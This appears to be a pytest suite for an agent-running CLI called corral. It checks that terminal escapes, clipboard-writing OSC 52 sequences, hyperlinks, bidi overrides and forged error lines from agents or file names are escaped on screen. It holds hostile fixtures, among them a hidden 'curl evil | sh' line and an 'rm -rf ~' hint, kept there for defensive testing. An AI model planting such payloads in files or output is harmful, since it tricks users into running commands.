"""No text a child, a project's definition, a file name or a model produced reaches a terminal
raw; ``--json`` and pipes get the exact data.

Each CLI test runs the real ``corral`` with a pseudo-terminal as its terminal
(:mod:`tty_support`) and reads the bytes a terminal would receive. Without the
defences: ``corral diff`` wrote the child's ``\\r`` and ``ESC[2K`` that hide a
``curl ... | sh`` line; ``agents show`` printed a description's OSC 52
(clipboard write), OSC 8 (hyperlink) and bidi overrides; ``agents list``,
``check`` and ``show`` printed file names and diagnostic fields raw; a file
named ``[link=...]x`` became a hyperlink in the live status line (rich markup);
the approval question lost its ``[y/N]`` to rich's markup; error messages and
``gc --json`` carried raw control and bidi characters.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest
import yaml
from exec_support import Runner, agent_file
from tty_support import on_terminal, raw_controls

from executor.cli import render_error
from executor.ledger import RunRecord, RunStatus, ledger_dir, load_patch, new_run_id, write_run
from executor.text import one_line, printable, printable_patch
from tests.backends import git as run_git

OSC52 = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"  # writes "curl evil | sh" to the clipboard
OSC8 = "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\"
BIDI = "\u202egnp.\u2066x\u2069"
HIDDEN = "echo ok\r\x1b[2Kcurl evil | sh"


def call(name: str, **arguments: object) -> dict[str, object]:
    return {"tool_calls": [{"name": name, "arguments": arguments}]}


def write(path: Path, text: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")
    return path


def record(repo: Path, patch: bytes = b"", **fields: object) -> str:
    """Write a run record the way the executor does; its id."""
    run_id = new_run_id()
    base: dict[str, object] = {
        "run_id": run_id, "agent": "a", "agent_format": "ngn", "agent_source": "a.md",
        "contract_digest": "d" * 64, "prompt": "p", "backend": "host", "mode": "worktree",
        "status": RunStatus.COMPLETED, "diff": patch.decode("utf-8", "replace")}
    write_run(ledger_dir(repo), RunRecord.model_validate(base | fields), [], patch=patch)
    return run_id


# -- the escaping itself --------------------------------------------------------------------


@pytest.mark.parametrize(("char", "shown"), [
    ("\r", "\\x0d"), ("\x1b", "\\x1b"), ("\x07", "\\x07"), ("\x00", "\\x00"), ("\x7f", "\\x7f"),
    ("\x85", "\\u0085"), ("\x9b", "\\u009b"), ("\x9d", "\\u009d"),  # C1: NEL, CSI, OSC
    ("\u2028", "\\u2028"), ("\u2029", "\\u2029"), ("\u202e", "\\u202e"), ("\u2066", "\\u2066"),
    ("\u200b", "\\u200b"), ("\u200d", "\\u200d"), ("\ufeff", "\\ufeff"), ("\u00ad", "\\u00ad"),
    ("\U000e0041", "\\U000e0041"),  # a language tag (invisible ASCII smuggling)
    ("\u3164", "\\u3164"), ("\U000e0100", "\\U000e0100"),  # draw nothing
    ("\udcff", "\\xff"),  # a byte that was not UTF-8 (surrogateescape)
])
def test_every_hidden_character_becomes_a_visible_escape(char: str, shown: str) -> None:
    assert printable(f"a{char}b") == f"a{shown}b"
    assert one_line(f"a{char}b") == f"a{shown}b"


def test_text_tabs_and_newlines_pass_through_and_one_line_escapes_newlines() -> None:
    text = "caf\u00e9 \u65e5\u672c \U0001f642 \u00a0x\n\tindented\n"
    assert printable(text) == text
    assert one_line("a\nb\tc") == "a\\x0ab\tc"
    long = "x" * 1_000_000 + "\x1b" + "y" * 1000
    assert printable(long) == "x" * 1_000_000 + "\\x1b" + "y" * 1000


def test_a_patch_keeps_its_shape_and_shows_bytes_that_are_not_text() -> None:
    patch = b"+ok\xff\xc2\x9b\xe2\x80\xa8\tend\r\n+\xe2\x80\xaeabc\n"
    text, count = printable_patch(patch)
    assert text == "+ok\\xff\\u009b\\u2028\tend\\x0d\n+\\u202eabc\n"
    assert count == 5


# -- corral diff ----------------------------------------------------------------------------


@pytest.mark.parametrize("backend", ["host"], indirect=True)
def test_diff_on_a_terminal_shows_the_command_a_carriage_return_hides(
    run: Runner, repo: Path, tmp_path: Path,
) -> None:
    agent_file(repo, "a", "tools: [write_file]")
    makefile = f"all:\n\t{HIDDEN}\n"
    done = run("a", [call("write_file", path="Makefile", content=makefile), {"text": "ok"}])
    exact = load_patch(ledger_dir(repo), done.run_id)
    assert b"\r\x1b[2Kcurl evil" in exact  # the attack is in the patch

    shown = on_terminal("diff", done.run_id, "--root", str(repo))
    assert shown.code == 0
    assert raw_controls(shown.screen) == []
    assert b"+\techo ok\\x0d\\x1b[2Kcurl evil | sh\n" in shown.screen
    assert b"2 control or invisible character(s)" in shown.screen  # the note says so

    # A pipe or a file gets the exact bytes, which git applies.
    piped = on_terminal("diff", done.run_id, "--root", str(repo), stdout_to=tmp_path / "p")
    assert piped.code == 0 and piped.stdout == exact
    assert raw_controls(piped.screen) == []  # and nothing but the note on the terminal
    applied = run_git(repo, "apply", "--check", str(tmp_path / "p"), check=False)
    assert applied.returncode == 0, applied.stderr
    # --escape asks for the terminal view through a pipe (a pager such as less -R).
    paged = on_terminal("diff", done.run_id, "--root", str(repo), "--escape",
                        stdout_to=tmp_path / "e")
    assert paged.stdout is not None and b"\\x1b[2Kcurl" in paged.stdout
    assert raw_controls(paged.stdout) == []


def test_diff_on_a_terminal_escapes_bytes_that_are_not_utf8_c1_and_separators(
    repo: Path, tmp_path: Path,
) -> None:
    long_line = "y" * 200_000
    body = (b"+bad \xff\xfe byte\n"  # not UTF-8
            + "+c1 \u009b31m \u0085 nel\n+sep \u2028 \u2029 end\n".encode()
            + f"+bidi {BIDI} zw\u200bsp\n+{long_line}\n".encode())
    patch = (b"diff --git a/f b/f\nnew file mode 100644\n--- /dev/null\n+++ b/f\n"
             b"@@ -0,0 +1,5 @@\n" + body)
    run_id = record(repo, patch)
    shown = on_terminal("diff", run_id, "--root", str(repo))
    assert shown.code == 0
    assert raw_controls(shown.screen) == []
    assert b"\xff" not in shown.screen and b"\xc2\x9b" not in shown.screen
    screen = shown.text
    assert "+bad \\xff\\xfe byte\n" in screen
    assert "+c1 \\u009b31m \\u0085 nel\n" in screen
    assert "+sep \\u2028 \\u2029 end\n" in screen
    assert "+bidi \\u202egnp.\\u2066x\\u2069 zw\\u200bsp\n" in screen
    assert f"+{long_line}\n" in screen  # shown in full, on one line
    piped = on_terminal("diff", run_id, "--root", str(repo), stdout_to=tmp_path / "p")
    assert piped.stdout == patch


# -- agents list / show / check ---------------------------------------------------------------


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    """A project whose definitions carry terminal escapes in every field a user sees."""
    root = tmp_path / "proj"
    write(root / ".gemini/agents/gem.md", "---\n" + yaml.safe_dump({
        "name": "gem", "display_name": f"Gem{OSC52}",
        "description": f"Helpful {OSC8} {BIDI}\neffective    shell, write_file",
    }) + "---\nStep one.\x1b[2K\x1b[1AStep two \u2028 hidden.\n")
    # A file name with escapes (the agent's name itself is checked by the loader).
    write(root / f".claude/agents/ok{OSC52}.md", "---\nname: ok\ndescription: d\n---\nb\n")
    # Rejected definitions whose diagnostics quote a file name and a key.
    write(root / f".claude/agents/evil{OSC52}.md",
          "---\nname: evil\ndescription: d\nallowedTools: Read\n---\nb\n")
    write(root / ".zuno/zuno.json", json.dumps({"agents": {f"z{OSC52}": {"prompt": "x"}}}))
    return root


def test_agents_show_escapes_osc_clipboard_hyperlinks_and_bidi(hostile: Path) -> None:
    shown = on_terminal("agents", "show", "gem", "--root", str(hostile), "--trust-project",
                        "--no-personal")
    assert shown.code == 0, shown.text
    assert raw_controls(shown.screen) == []
    screen = shown.text
    assert "(Gem\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07)" in screen
    assert "\\x1b]8;;https://evil.example/\\x1b\\click" in screen
    assert "\\u202egnp.\\u2066x\\u2069" in screen
    # A newline in the description cannot fake the 'effective' line under it.
    assert not [line for line in screen.split("\n") if line.startswith("effective    shell")]
    assert "\\x0aeffective    shell, write_file" in screen
    assert "  Step one.\\x1b[2K\\x1b[1AStep two \\u2028 hidden." in screen


def test_agents_list_and_check_escape_file_names_and_diagnostics(hostile: Path) -> None:
    args = ("--root", str(hostile), "--trust-project", "--no-personal")
    listed = on_terminal("agents", "list", "-l", *args)
    assert listed.code == 0
    assert raw_controls(listed.screen) == []
    assert "ok\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07.md" in listed.text
    checked = on_terminal("agents", "check", *args)
    assert checked.code == 1
    assert raw_controls(checked.screen) == []
    assert "evil\\x1b]52;c;" in checked.text and "agents.z\\x1b]52;c;" in checked.text


def test_errors_escape_the_names_and_paths_they_quote(hostile: Path, tmp_path: Path) -> None:
    # The hint of an unknown agent lists the diagnostics of files named like it.
    error = on_terminal("agents", "show", "evil", "--root", str(hostile), "--trust-project",
                        "--no-personal")
    assert error.code == 2
    assert raw_controls(error.screen) == []
    assert "no agent named 'evil'" in error.text and "evil\\x1b]52;c;" in error.text
    # A usage error quotes the path that was given.
    odd = write(tmp_path / f"file{OSC52}", "x")
    usage = on_terminal("runs", "--root", str(odd))
    assert usage.code == 2
    assert raw_controls(usage.screen) == []
    assert "file\\x1b]52;c;" in usage.text


def test_a_multi_line_error_prints_as_lines_none_posing_as_a_field(
    capsys: pytest.CaptureFixture[str],
) -> None:
    """Issue 16: every value printed on one line with literal ``\\x0a``. A message, a context
    value or a hint now prints as lines, each escaped, its continuation lines indented under
    its first (deeper than any field), so a value cannot forge ``hint: ...`` or ``  key: ...``.
    """
    render_error({"code": "x",
                  "message": "the patch failed\nhint: run rm -rf ~\n  backup: /tmp/x\r\x1b[2K",
                  "context": {"path": "a.txt\nerror: forged",
                              "conflicts": "\n    a.txt: changed\n    b.txt: gone"},
                  "hint": f"read it\nhint: run rm -rf ~ {OSC52}\nthen retry\n"})
    assert capsys.readouterr().err == (
        "error: the patch failed\n"
        "       hint: run rm -rf ~\n"
        "         backup: /tmp/x\\x0d\\x1b[2K\n"
        "  path: a.txt\n"
        "    error: forged\n"
        "  conflicts:\n"
        "        a.txt: changed\n"
        "        b.txt: gone\n"
        "hint: read it\n"
        "      hint: run rm -rf ~ \\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07\n"
        "      then retry\n")


def test_a_file_name_in_an_error_cannot_forge_a_hint_line(repo: Path) -> None:
    """A replay whose name holds a newline and whose YAML is broken: the error quotes the
    name (and YAML's multi-line reason) as lines, the name's second line indented under the
    message, never a ``hint:`` line of its own."""
    name = f"x\nhint: run rm -rf ~ {BIDI}.yaml"
    write(repo / name, "a: b: c\n")
    shown = on_terminal("run", "--root", str(repo), "--no-personal", "--backend", "host",
                        "--script", str(repo / name), "go")
    assert shown.code == 2, shown.text
    assert raw_controls(shown.screen) == []
    lines = shown.text.splitlines()
    assert not [line for line in lines if line.startswith("hint: run")], shown.text
    assert "       hint: run rm -rf ~ \\u202egnp.\\u2066x\\u2069.yaml: not valid YAML: " \
        "mapping values are not allowed here" in lines, shown.text
    assert "    hint: run rm -rf ~ \\u202egnp.\\u2066x\\u2069.yaml" in lines  # its context
    assert "\\x0a" not in shown.text
    assert [line for line in lines if line.startswith("hint")] == [
        "hint: a script is a YAML list of turns"]


# -- run records: run, show, runs, apply --------------------------------------------------------


@pytest.mark.parametrize("backend", ["host"], indirect=True)
def test_show_runs_and_apply_listing_escape_file_names(run: Runner, repo: Path) -> None:
    name = f"notes{OSC52}{BIDI}.txt"
    agent_file(repo, "a", "tools: [write_file, shell]")
    done = run("a", [call("write_file", path=name, content="x\n"),
                     call("shell", command=f"printf '{OSC8}'"),
                     {"text": f"done {HIDDEN} {OSC52}"}])
    assert [c["path"] for c in done.changed_files] == [name]
    # apply lists the files, then refuses control characters in a path (exit 4).
    for args, code in ((["show", done.run_id], 0), (["runs"], 0),
                       (["apply", done.run_id, "--check"], 4)):
        shown = on_terminal(*args, "--root", str(repo))
        assert shown.code == code, shown.text
        assert raw_controls(shown.screen) == [], args
    shown = on_terminal("show", done.run_id, "--root", str(repo))
    assert "notes\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07\\u202egnp." in shown.text
    assert "done echo ok\\x0d\\x1b[2Kcurl evil | sh" in shown.text
    assert "\\x1b]8;;https://evil.example/" in shown.text  # the command's output, escaped


def test_records_read_back_are_escaped_in_every_field(repo: Path) -> None:
    """A record comes from the state dir: not one of its fields reaches the terminal raw."""
    run_id = record(repo, agent=f"a{OSC52}", mode=f"m{BIDI}", agent_source=f"s{OSC8}",
                    model=f"m{OSC52}", prompt=f"p{HIDDEN}", notes=[f"n{OSC52}"],
                    error={"code": "x", "message": f"e{OSC52}"},
                    denied_calls=[{"tool": f"t{OSC52}", "reason": f"r{BIDI}"}],
                    changed_files=[{"path": f"f{OSC52}", "status": "added", "flags": [BIDI]}],
                    audit=[{"step": 1, "tool": f"t{OSC52}", "arguments": {"x": OSC52},
                            "decision": f"d{OSC52}", "reason": f"r{OSC8}",
                            "result": f"out{HIDDEN}"}])
    for args in (["show", run_id], ["runs"]):
        shown = on_terminal(*args, "--root", str(repo))
        assert shown.code == 0, shown.text
        assert raw_controls(shown.screen) == [], args


# -- live progress and approval prompts (rich) -------------------------------------------------


def test_progress_and_approval_prompt_never_render_markup_or_escapes(repo: Path,
                                                                   tmp_path: Path) -> None:
    write(repo / ".zuno/zuno.json", json.dumps({"agents": {"asker": {
        "permission": {"rules": {"shell": "ask"}}}}}))
    script = write(tmp_path / "s.yaml", yaml.safe_dump([
        call("shell", command=f"{HIDDEN} {OSC52}"),
        call("write_file", path="[link=evil.example]x.txt", content="x\n"),
        call("write_file", path="[red]y :smile:.txt", content="y\n"),
        {"text": "done [bold]z[/bold]"},
    ]))
    shown = on_terminal("run", "--root", str(repo), "--trust-project", "--no-personal",
                        "--agent", "asker", "--backend", "host", "--script", str(script), "go",
                        tty_stdin=True, answers={b"allow?": b"n\n"})
    assert shown.code == 4, shown.text  # completed with a denied call
    screen = shown.screen
    # Rich draws its own status line (ESC[2K, colours), but nothing the child chose:
    assert b"\x1b]52" not in screen and b"\x07" not in screen
    assert b"\x1b]8;" not in screen  # no hyperlink, not even from a file name
    assert b"\x1b[2Kcurl" not in screen and b"\rcurl" not in screen
    assert raw_controls(screen.replace(b"\x1b[", b"").replace(b"\r", b"")) == []
    # The question is shown whole, the command escaped, the default visible.
    assert b"subject: echo ok\\x0d\\x1b[2Kcurl evil | sh \\x1b]52;c;" in screen
    assert b"allow? [y/N]: " in screen
    # The live status line was taken away for the question (rich hides the cursor while it
    # draws, and shows it again when it stops), so its redraws cannot cover the question.
    before = screen[:screen.index(b"[asker] wants to call shell")]
    assert before.rfind(b"\x1b[?25h") > before.rfind(b"\x1b[?25l") >= 0
    # Markup in file names and text is shown as written: in the status line and the answer.
    assert b'"path": "[link=evil.example]x.txt"' in screen
    assert b'"path": "[red]y :smile:.txt"' in screen
    assert b"done [bold]z[/bold]" in screen


# -- JSON is for machines: ASCII, exact ---------------------------------------------------------


@pytest.mark.parametrize("backend", ["host"], indirect=True)
def test_json_output_is_ascii_and_carries_the_exact_text(run: Runner, repo: Path,
                                                         hostile: Path) -> None:
    name = f"n{OSC52}{BIDI}\u0085.txt"
    agent_file(repo, "a", "tools: [write_file]")
    done = run("a", [call("write_file", path=name, content="x\n"), {"text": f"ok{OSC8}"}])
    state = Path.home() / ".local/state/corral"
    (state / "sandboxes" / f"corral-{BIDI}\u009b").mkdir(parents=True)  # gc lists it
    loader = ("--root", str(hostile), "--trust-project", "--no-personal")
    outputs = {
        "show": (["show", done.run_id, "--root", str(repo)], 0),
        "runs": (["runs", "--root", str(repo)], 0),
        "agents show": (["agents", "show", "gem", *loader], 0),
        "agents list": (["agents", "list", *loader], 0),
        "agents check": (["agents", "check", *loader], 1),
        "gc": (["gc"], 0),
    }
    data = {}
    for what, (args, expected) in outputs.items():
        shown = on_terminal(*args, "--json")
        assert shown.code == expected, (what, shown.text)
        assert shown.screen.isascii(), what
        assert raw_controls(shown.screen) == [], what
        data[what] = json.loads(shown.screen)
    script = write(Path.home() / "s.yaml", yaml.safe_dump([
        call("write_file", path=name, content="y\n"), {"text": f"ok{OSC52}"}]))
    ran = on_terminal("run", "--root", str(repo), "--trust-project", "--no-personal",
                      "--agent", "a", "--backend", "host", "--script", str(script), "--json", "go",
                      stdout_to=Path.home() / "run.json")
    assert ran.code == 0 and ran.stdout is not None and ran.stdout.isascii()
    assert raw_controls(ran.stdout) == [] and raw_controls(ran.screen) == []
    assert json.loads(ran.stdout)["final_text"] == f"ok{OSC52}"
    assert [c["path"] for c in data["show"]["changed_files"]] == [name]
    assert data["show"]["final_text"] == f"ok{OSC8}"
    assert data["agents show"]["display_name"] == f"Gem{OSC52}"
    # The loader lets no control character into an agent's name (display names are free).
    assert [a["name"] for a in data["agents list"]["agents"]] == ["gem", "ok"]
    assert any(d["field"] == f"agents.z{OSC52}.name" and "invalid agent name" in d["reason"]
               for d in data["agents check"]["diagnostics"])
    assert any(e["sandbox_id"] == f"corral-{BIDI}\u009b" for e in data["gc"]["entries"])
    gc_text = on_terminal("gc")
    assert raw_controls(gc_text.screen) == []


def test_a_corrupted_record_is_rendered_escaped_with_its_own_exit_code(repo: Path) -> None:
    run_id = record(repo)
    (ledger_dir(repo) / run_id / "record.json").write_text(f'{{"agent": "{OSC52}",')
    broken = on_terminal("show", run_id, "--root", str(repo))
    assert broken.code == 3
    assert raw_controls(broken.screen) == []
    assert f"error: the run record {run_id} is corrupted" in broken.text
    assert "Traceback" not in broken.text


@pytest.mark.parametrize("backend", ["host"], indirect=True)
def test_apply_listing_keeps_a_path_with_a_newline_on_its_own_line(run: Runner,
                                                                    repo: Path) -> None:
    """A newline in a file name must not fake another listed file (one_line, not printable)."""
    name = "notes.txt\n  added     harmless.txt"
    agent_file(repo, "a", "tools: [write_file]")
    done = run("a", [call("write_file", path=name, content="x\n"), {"text": "done"}])
    assert [c["path"] for c in done.changed_files] == [name]
    shown = on_terminal("apply", done.run_id, "--check", "--root", str(repo))
    assert shown.code == 4, shown.text
    assert raw_controls(shown.screen) == []
    assert not any(line.strip().startswith("added     harmless.txt")
                   for line in shown.text.splitlines()), shown.text
    assert "notes.txt\\n  added     harmless.txt" in shown.text
